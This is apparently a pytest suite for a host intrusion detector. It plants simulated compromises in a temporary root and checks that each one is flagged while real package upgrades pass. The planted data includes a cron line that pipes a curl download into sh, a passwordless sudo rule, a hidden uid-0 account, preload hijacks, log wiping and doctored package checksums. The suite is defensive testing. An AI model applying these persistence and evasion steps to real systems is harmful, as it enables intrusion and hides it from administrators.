"""Intrusions planted on a host are all found; package upgrades by the real dpkg are none."""

from __future__ import annotations

import os
import shutil
import subprocess
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from checks.host.intrusion import AREAS, Intrusion
from tests.loopback.host_look import Watch, fault, severities, tells
from tests.loopback.planted import KEY, Planted

FILES = tuple(area for area in AREAS if area not in ("processes", "aide", "rootkits"))
PACKAGE = {
    "usr/bin/tool": b"first",
    "usr/sbin/lender": b"SETUID first",
    "usr/lib/systemd/system/tool.service": b"[Service]\nExecStart=/usr/bin/tool\n",
    "etc/cron.d/tool": b"0 4 * * * root tool\n",
    "etc/tool.conf": b"a = 1\n",
}


@pytest.fixture
def host(tmp_path: Path) -> Planted:
    planted = Planted(tmp_path)
    planted.install("tool", "1.0", PACKAGE)
    return planted


def watching(host: Planted, folder: Path, **settings: object) -> Watch:
    check = Intrusion(
        **{"root": str(host.root), "areas": FILES, "temporary": ("/tmp",), **settings}
    )
    return Watch(folder, check)


async def accepted(host: Planted, folder: Path) -> Watch:
    """A watch whose first look was accepted."""
    watch = watching(host, folder)
    host.log_in("anna", "192.0.2.10")
    await watch.look()
    watch.accept()
    return watch


async def test_a_host_that_nobody_accepted_says_so_and_one_that_is_as_accepted_is_good(
    host: Planted, tmp_path: Path
) -> None:
    watch = watching(host, tmp_path)
    first = await watch.look()
    assert first.fault is None
    assert tells(first, "nothing is accepted yet", "files", "accounts", "keys")
    watch.accept()
    second = await watch.look()
    assert second.fault is None
    assert second.warnings == ()
    assert second.measures["findings"] == 0
    assert second.measures["watched_files"] > 5


def new_account(host: Planted) -> None:
    host.append("etc/passwd", "mallory:x:1001:1001::/home/mallory:/bin/bash\n")


def root_by_another_name(host: Planted) -> None:
    host.append("etc/passwd", "toor:x:0:0::/root:/bin/sh\n")


def no_password(host: Planted) -> None:
    host.write(
        "etc/shadow",
        "root:$y$j9T$abc:19000:0:99999:7:::\nanna::19000:::::\nwww-data:*:19000:::::\n",
    )


def shell_for_a_service(host: Planted) -> None:
    text = (host.root / "etc/passwd").read_text()
    host.write("etc/passwd", text.replace("/var/www:/usr/sbin/nologin", "/var/www:/bin/bash"))


def mighty_group(host: Planted) -> None:
    host.write("etc/group", "root:x:0:\nsudo:x:27:anna,www-data\nanna:x:1000:\n")


def sudo_without_password(host: Planted) -> None:
    host.write("etc/sudoers.d/10-x", "www-data ALL=(ALL) NOPASSWD: ALL\n", 0o440)


def key_of_root(host: Planted) -> None:
    host.write("root/.ssh/authorized_keys", KEY.format("B" * 43, "x@y") + "\n", 0o600)


def key_with_options(host: Planted) -> None:
    host.append(
        "home/anna/.ssh/authorized_keys", f'command="sh",no-pty {KEY.format("C" * 43, "c2")}\n'
    )


def key_where_sshd_looks(host: Planted) -> None:
    host.write("etc/ssh/keys/anna", KEY.format("D" * 43, "d") + "\n")


def cron_job(host: Planted) -> None:
    host.write("etc/cron.d/.update", "* * * * * root curl http://192.0.2.66/x | sh\n")


def users_crontab(host: Planted) -> None:
    host.write("var/spool/cron/crontabs/www-data", "* * * * * /tmp/.x\n", 0o600)


def service(host: Planted) -> None:
    host.write("etc/systemd/system/dbus-org.service", "[Service]\nExecStart=/usr/bin/.dbus\n")


def shell_start(host: Planted) -> None:
    host.write("home/anna/.bashrc", "alias sudo='/tmp/.s'\n")


def preload(host: Planted) -> None:
    host.write("etc/ld.so.preload", "/usr/lib/libselinux.so.9\n")


def preload_by_environment(host: Planted) -> None:
    host.write("etc/environment", "PATH=/usr/bin\nLD_PRELOAD=/tmp/x.so\n")


def kernel_module(host: Planted) -> None:
    host.append("proc/modules", "diamorphine 16384 0 - Live 0x0 (OE)\n")


def stranger(host: Planted) -> None:
    host.log_in("anna", "203.0.113.99")


def guessed(host: Planted) -> None:
    lines = [
        f"Nov 22 03:00:{n:02} pbx sshd[1]: Failed password for root from 203.0.113.5 port 4{n:03}"
        " ssh2"
        for n in range(30)
    ]
    lines.append(
        "Nov 22 03:01:00 pbx sshd[1]: Accepted password for root from 203.0.113.5 port 5555 ssh2"
    )
    host.write("var/log/auth.log", "\n".join(lines) + "\n")


def erased_log(host: Planted) -> None:
    os.truncate(host.root / "var/log/wtmp", 0)


def wiped_record(host: Planted) -> None:
    with (host.root / "var/log/wtmp").open("ab") as file:
        file.write(bytes(384))


def set_user_id_file(host: Planted) -> None:
    host.program("usr/lib/.hidden", 0o4755)


def set_user_id_of_a_known_file(host: Planted) -> None:
    (host.root / "usr/bin/local-tool").chmod(0o4755)


def program_in_tmp(host: Planted) -> None:
    host.program("tmp/.ICE-unix/kworker")


def trojan(host: Planted) -> None:
    host.program("usr/bin/tool", content=b"trojan")


def trojan_with_doctored_checksums(host: Planted) -> None:
    """The package's own list is made to fit; its version is not."""
    import hashlib

    file = host.program("usr/bin/tool", content=b"trojan")
    digest = hashlib.md5(file.read_bytes()).hexdigest()
    sums = host.root / "var/lib/dpkg/info/tool.md5sums"
    lines = [line for line in sums.read_text().splitlines() if not line.endswith("usr/bin/tool")]
    sums.write_text("\n".join([*lines, f"{digest}  usr/bin/tool"]) + "\n")


def replaced_tool(host: Planted) -> None:
    host.program("usr/bin/local-tool", content=b"other")


def new_tool(host: Planted) -> None:
    host.program("usr/bin/dhclient6")


def missing_tool(host: Planted) -> None:
    (host.root / "usr/bin/local-tool").unlink()


def changed_configuration(host: Planted) -> None:
    host.write("etc/hosts", "127.0.0.1 localhost\n203.0.113.1 bank.example.net\n")


def other_kernel(host: Planted) -> None:
    host.write("boot/vmlinuz", "another kernel")


def same_size_same_times(host: Planted) -> None:
    """A change that keeps size and times, as tools for it do."""
    file = host.root / "usr/bin/local-tool"
    was = file.stat()
    file.write_bytes(file.read_bytes()[:-1] + b"!")
    os.utime(file, (was.st_atime, was.st_mtime))


PLANTED: dict[Callable[[Planted], None], str] = {
    new_account: "new-account",
    root_by_another_name: "root-account",
    no_password: "empty-password",
    shell_for_a_service: "changed-account",
    mighty_group: "new-privilege",
    sudo_without_password: "new-privilege",
    key_of_root: "new-key",
    key_with_options: "new-key",
    key_where_sshd_looks: "new-key",
    cron_job: "new-schedule",
    users_crontab: "new-schedule",
    service: "new-schedule",
    shell_start: "new-schedule",
    preload: "preload",
    preload_by_environment: "preload",
    kernel_module: "new-module",
    stranger: "new-log-in",
    guessed: "guessed-password",
    erased_log: "log-erased",
    wiped_record: "log-erased",
    set_user_id_file: "new-privileged-file",
    set_user_id_of_a_known_file: "new-privileged-file",
    program_in_tmp: "hidden-program",
    trojan: "foreign-file",
    trojan_with_doctored_checksums: "changed-file",
    replaced_tool: "changed-file",
    new_tool: "new-file",
    missing_tool: "missing-file",
    changed_configuration: "changed-file",
    other_kernel: "changed-file",
    same_size_same_times: "changed-file",
}


OF_TWO_LOOKS = (erased_log,)  # what was there before is known from the look before


async def test_every_planted_intrusion_is_found_and_is_a_ticket(tmp_path: Path) -> None:
    """Each alone, on a copy of a host that was accepted."""
    master = Planted(tmp_path / "master")
    master.install("tool", "1.0", PACKAGE)
    master.log_in("anna", "192.0.2.10")
    first = watching(master, tmp_path / "master")
    await first.look()
    first.accept()
    missed = []
    for number, (plant, code) in enumerate(PLANTED.items()):
        host = master.copied(tmp_path / str(number))
        watch = watching(host, tmp_path / str(number))
        watch.accepted = first.accepted
        if plant in OF_TWO_LOOKS:
            await watch.look()
        plant(host)
        seen = await watch.look()
        codes = {line.split(": ")[1] for line in seen.notes if line.count(": ") > 1}
        codes |= {seen.fault.code} if seen.fault else set()
        if code not in codes:
            missed.append((plant.__name__, code, seen.fault))
        else:
            expected = {"xop": "critical", "ozonetel": "P1"}
            assert severities("intrusion", seen).items() <= expected.items()
    assert not missed
    assert len(PLANTED) >= 15


async def test_a_finding_stays_until_it_is_accepted(host: Planted, tmp_path: Path) -> None:
    watch = await accepted(host, tmp_path)
    stranger(host)
    new_tool(host)
    for _ in range(2):
        seen = await watch.look()
        assert seen.measures["findings"] == 2
        assert "new-log-in" in " ".join(seen.notes)
    watch.accept()
    assert (await watch.look()).fault is None


async def test_three_upgrades_by_dpkg_raise_no_alarm(host: Planted, tmp_path: Path) -> None:
    """Changed, new and removed files, a set-user-ID program, a cron job, a unit, a system account,
    a new package.
    """
    watch = await accepted(host, tmp_path)
    first = {
        **PACKAGE,
        "usr/bin/tool": b"second",
        "usr/sbin/lender": b"SETUID second",
        "usr/bin/more": b"new",
    }
    upgrades: list[Callable[[], None]] = [
        lambda: host.install("tool", "1.1",
            {**first, "etc/tool.conf": b"a = 2\n", "etc/cron.d/tool": b"5 4 * * *\n"}),
        lambda: host.install("other", "3.2",
            {"usr/bin/other": b"SETUID other", "etc/cron.d/other": b"1 1 * * *\n"},
            "# adduser --system otherd"),
        lambda: host.install("tool", "2.0",
            {"usr/bin/tool": b"third", "etc/tool.conf": b"a = 3\n"}),
    ]  # fmt: skip
    for upgrade in upgrades:
        upgrade()
        if upgrade is upgrades[1]:
            host.append("etc/passwd", "otherd:x:101:101::/nonexistent:/usr/sbin/nologin\n")
        seen = await watch.look()
        assert seen.fault is None, seen.fault
        assert seen.measures["explained_changes"] > 0
        assert tells(seen, "explained", "package")
    assert tells(seen, "package tool 1.0 -> 2.0")
    trojan(host)
    assert fault(await watch.look())[1] == "foreign-file"


async def test_an_upgrade_hides_no_intrusion_beside_it(host: Planted, tmp_path: Path) -> None:
    watch = await accepted(host, tmp_path)
    host.install("tool", "1.1", {**PACKAGE, "usr/bin/tool": b"second"})
    host.program("usr/bin/tool2")
    host.program("usr/sbin/lender", 0o4755, b"not the package's")
    seen = await watch.look()
    found = {line.split(": ")[1] for line in seen.notes if line.count(": ") > 1}
    assert {"new-file", "foreign-file", "changed-file", "new-privileged-file"} <= found


async def test_names_of_strangers_stay_on_their_line(host: Planted, tmp_path: Path) -> None:
    watch = await accepted(host, tmp_path)
    host.program("usr/bin/x\n\x1b[2J\u202eTXT.exe <b>")
    text = fault(await watch.look())[2]
    assert "\n" not in text and "\x1b" not in text and "\u202e" not in text
    assert "<b>" in text


async def test_a_baseline_that_is_too_large_is_said_and_not_kept(
    host: Planted, tmp_path: Path
) -> None:
    for number in range(300):
        (host.root / "etc" / f"file-{number}").write_text(str(number))
    watch = watching(host, tmp_path, areas=("accounts", "files"), most_files=200)
    seen = await watch.look()
    assert tells(seen, "not looked at: files", "more than 200 files")
    assert "accounts" in seen.proposals
    assert "files" not in seen.proposals


async def test_a_host_without_these_tools_is_not_passed_silently(
    host: Planted, tmp_path: Path
) -> None:
    watch = watching(host, tmp_path, areas=AREAS)
    seen = await watch.look()
    for area in ("processes", "aide", "rootkits"):
        assert tells(seen, f"not looked at: {area}")


async def test_a_program_that_runs_from_tmp_is_found(tmp_path: Path) -> None:
    watch = Watch(
        tmp_path, Intrusion(areas=("processes",), temporary=(str(tmp_path),), within="120s")
    )
    with running(tmp_path / "xmrig"):
        seen = await watch.look()
    assert "processes" in seen.proposals
    stage, code, text = fault(seen)
    assert (stage, code) == ("processes", "hidden-program")
    assert f"xmrig: it runs from {tmp_path}/xmrig" in text


@contextmanager
def running(program: Path) -> Iterator[None]:
    shutil.copy("/bin/sleep", program)
    with subprocess.Popen([program, "300"]) as process:
        deadline = time.monotonic() + 30
        while (
            Path(f"/proc/{process.pid}/exe").readlink() != program and time.monotonic() < deadline
        ):
            time.sleep(0.01)
        yield
        process.kill()


async def test_aide_s_own_database_is_compared(host: Planted, tmp_path: Path) -> None:
    configuration = tmp_path / "aide.conf"
    configuration.write_text(
        f"database_in=file:{tmp_path}/aide.db\ndatabase_out=file:{tmp_path}/aide.db\n"
        f"report_url=stdout\n{host.root}/usr/bin p+u+g+s+sha256\n{host.root}/etc/hosts p+s+sha256\n"
    )
    make_database(configuration)
    watch = watching(host, tmp_path, areas=("aide",), aide_configuration=str(configuration))
    assert (await watch.look()).fault is None
    watch.accept()
    host.install("tool", "1.1", {**PACKAGE, "usr/bin/tool": b"second"})
    upgraded = await watch.look()
    changed_configuration(host)
    new_tool(host)
    seen = await watch.look()
    assert upgraded.fault is None, upgraded.fault
    assert tells(upgraded, "explained", "/usr/bin/tool")
    stage, code, text = fault(seen)
    assert (stage, code) == ("aide", "aide-differs")
    assert "/etc/hosts" in text and "/usr/bin/dhclient6" in text


def make_database(configuration: Path) -> None:
    program = shutil.which("aide")
    assert program, "Debian package aide"
    done = subprocess.run(
        [program, f"--config={configuration}", "--init"],
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 0, done.stdout + done.stderr
